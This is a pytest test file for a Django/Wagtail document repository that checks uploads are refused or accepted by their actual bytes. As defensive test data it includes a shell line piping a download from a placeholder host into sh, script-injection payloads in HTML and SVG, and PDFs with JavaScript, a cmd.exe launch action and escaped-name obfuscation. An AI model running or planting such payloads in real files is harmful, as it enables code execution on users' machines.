"""Upload safety (`knowledge.uploads`): a document is judged by its bytes, through the admin's real upload views."""

import io
import zipfile
import zlib
from pathlib import Path

from django.conf import settings
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings

from wagtail.models import Collection, UploadedFile
from wagtail.users.models import UserProfile

import pytest
from reportlab.pdfgen import canvas

from knowledge import uploads
from knowledge.models import KnowledgeDocument

pytestmark = pytest.mark.django_db


def real_pdf(text="Referral pathways for survivors") -> bytes:
    buffer = io.BytesIO()
    page = canvas.Canvas(buffer)
    page.drawString(72, 720, text)
    page.showPage()
    page.save()
    return buffer.getvalue()


def office_file(main_part: str, *extra: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("_rels/.rels", "<Relationships/>")
        archive.writestr("docProps/core.xml", "<coreProperties/>")
        archive.writestr(main_part, "<document/>")
        for name in extra:
            archive.writestr(name, b"\x00macro")
    return buffer.getvalue()


def pdf_with(body: bytes) -> bytes:
    catalog = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + body + b" >>\nendobj\n"
    return b"%PDF-1.7\n" + catalog + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


def packed_pdf(dictionary: bytes) -> bytes:
    """A PDF 1.5 whose catalog hides in a compressed object stream."""
    packed = zlib.compress(b"1 0 " + dictionary)
    header = b"3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
    return b"%PDF-1.7\n" + header + packed + b"\nendstream\nendobj\n%%EOF\n"


DOCX = office_file("word/document.xml")
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120
PE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120 + b"This program cannot be run in DOS mode."
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 120
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"

# (file name, bytes, words of the message)
REFUSED = {
    "elf": ("report.pdf", ELF, "is a program (ELF)"),
    "pe": ("report.pdf", PE, "is a program (Windows PE)"),
    "mach-o": ("report.pdf", MACH_O, "is a program (Mach-O)"),
    "shebang": ("report.pdf", SCRIPT, "is a program (script)"),
    "html": ("notes.txt", b"\n <!DOCTYPE html><html><script>alert(1)</script></html>", "is a web page (HTML)"),
    "html-named-pdf": ("notes.pdf", b"<html><body onload='x()'>", "is a web page (HTML)"),
    "svg-script": (
        "map.svg",
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "SVG image that carries scripts",
    ),
    "svg-onload": ("map.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "carries scripts"),
    "pdf-javascript": ("brief.pdf", pdf_with(b"/Names << /JavaScript 5 0 R >>"), "(/JavaScript)"),
    "pdf-openaction-js": (
        "brief.pdf",
        pdf_with(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        "(/JS, /JavaScript)",
    ),
    "pdf-launch": ("brief.pdf", pdf_with(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "(/Launch)"),
    "pdf-escaped-name": ("brief.pdf", pdf_with(b"/OpenAction << /S /J#61vaScript /JS (x) >>"), "/JavaScript"),
    "pdf-object-stream": ("brief.pdf", packed_pdf(b"<< /OpenAction << /S /JavaScript /JS (x) >> >>"), "/JS"),
    "pdf-named-docx": ("brief.docx", real_pdf(), "the name ends in .docx but the file is a PDF document"),
    "docx-named-pdf": ("brief.pdf", DOCX, "the name ends in .pdf but the file is a Word document"),
    "docx-macros": ("brief.docx", office_file("word/document.xml", "word/vbaProject.bin"), "carries macros"),
    "unknown-binary": ("archive.pdf", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 64, "not a type the repository accepts"),
}

GOOD = {
    "pdf": ("protocol.pdf", real_pdf(), "application/pdf"),
    "pdf-with-open-action": ("protocol.pdf", pdf_with(b"/OpenAction [3 0 R /Fit]"), "application/pdf"),
    "docx": (
        "protocol.docx",
        DOCX,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "text": ("scripts.txt", "Сценарии первого звонка.\n".encode(), "text/plain"),
    "csv": ("figures.csv", b"country,centres\nKR,38\n", "text/csv"),
    "svg": ("map.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>', "image/svg+xml"),
}


@pytest.fixture
def reviewer(client, make_user, roles):
    user = make_user("reviewer", group=roles["reviewers"])
    client.force_login(user)
    return user


def stored_files() -> set[Path]:
    return {path for path in Path(settings.MEDIA_ROOT).rglob("*") if path.is_file()}


def single_upload(client, name, content):
    return client.post(
        "/admin/documents/add/",
        {
            "title": "Upload",
            "file": SimpleUploadedFile(name, content),
            "collection": Collection.get_first_root_node().pk,
            "document_type": "report",
            "language": "en",
            "publication_date": "2025-03-01",
        },
    )


def multiple_upload(client, name, content):
    return client.post(
        "/admin/documents/multiple/add/",
        {"files[]": SimpleUploadedFile(name, content), "collection": Collection.get_first_root_node().pk},
        headers={"x-requested-with": "XMLHttpRequest"},
    )


@pytest.mark.parametrize("kind", REFUSED)
def test_single_upload_refuses_by_content(reviewer, client, kind):
    name, content, words = REFUSED[kind]
    before = stored_files()
    response = single_upload(client, name, content)
    assert response.status_code == 200
    assert words in response.content.decode().replace("&quot;", '"').replace("&#x27;", "'")
    assert not KnowledgeDocument.objects.exists()
    assert stored_files() == before


@pytest.mark.parametrize("kind", REFUSED)
def test_multiple_upload_refuses_by_content(reviewer, client, kind):
    name, content, words = REFUSED[kind]
    before = stored_files()
    answer = multiple_upload(client, name, content).json()
    assert answer["success"] is False
    assert words in answer["error_message"]
    assert not KnowledgeDocument.objects.exists() and not UploadedFile.objects.exists()
    assert stored_files() == before


@pytest.mark.parametrize("kind", GOOD)
def test_good_files_upload_and_are_served_as_what_they_are(reviewer, client, kind):
    name, content, content_type = GOOD[kind]
    response = single_upload(client, name, content)
    assert response.status_code == 302, response.content.decode()[-3000:]
    document = KnowledgeDocument.objects.get()
    served = client.get(document.url)
    assert served.status_code == 200
    assert served["Content-Type"].split(";")[0] == content_type


def test_multiple_upload_takes_a_good_pdf(reviewer, client):
    answer = multiple_upload(client, "protocol.pdf", real_pdf()).json()
    assert answer["success"] is True


@override_settings(DOCUMENT_MAX_UPLOAD_BYTES=1024)
def test_the_size_limit_comes_from_settings_and_is_named(reviewer, client):
    before = stored_files()
    response = single_upload(client, "figures.csv", b"a,b\n" * 600)
    assert response.status_code == 200
    assert "documents may be at most 1.0\xa0KB" in response.content.decode()
    answer = multiple_upload(client, "figures.csv", b"a,b\n" * 600).json()
    assert answer["success"] is False and "at most 1.0\xa0KB" in answer["error_message"]
    assert not KnowledgeDocument.objects.exists() and stored_files() == before


def test_replacing_a_file_on_the_edit_page_is_checked_too(reviewer, client):
    assert single_upload(client, "protocol.pdf", real_pdf()).status_code == 302
    document = KnowledgeDocument.objects.get()
    stored = document.file.name
    response = client.post(
        f"/admin/documents/edit/{document.pk}/",
        {
            "title": document.title,
            "file": SimpleUploadedFile("protocol.pdf", ELF),
            "collection": document.collection_id,
            "document_type": "report",
            "language": "en",
            "publication_date": "2025-03-01",
        },
    )
    assert response.status_code == 200 and "is a program (ELF)" in response.content.decode()
    document.refresh_from_db()
    assert document.file.name == stored


def test_the_message_is_in_the_editors_language(reviewer, client):
    profile = UserProfile.get_for_user(reviewer)
    profile.preferred_language = "ru"
    profile.save()
    response = single_upload(client, "report.pdf", ELF)
    assert "это программа (ELF)" in response.content.decode()
    answer = multiple_upload(client, "report.pdf", ELF).json()
    assert "это программа (ELF)" in answer["error_message"]


def test_a_file_stored_before_the_rules_is_served_as_its_bytes(reviewer, client):
    document = KnowledgeDocument(title="Old upload", collection=Collection.get_first_root_node())
    document.file.save("old.pdf", ContentFile(ELF), save=False)
    document.save()
    served = client.get(document.url)
    assert served["Content-Type"] == "application/octet-stream"
    assert served["Content-Disposition"].startswith("attachment")


def test_the_accepted_names_are_wagtails_extensions():
    assert sorted(settings.WAGTAILDOCS_EXTENSIONS) == uploads.allowed_extensions()
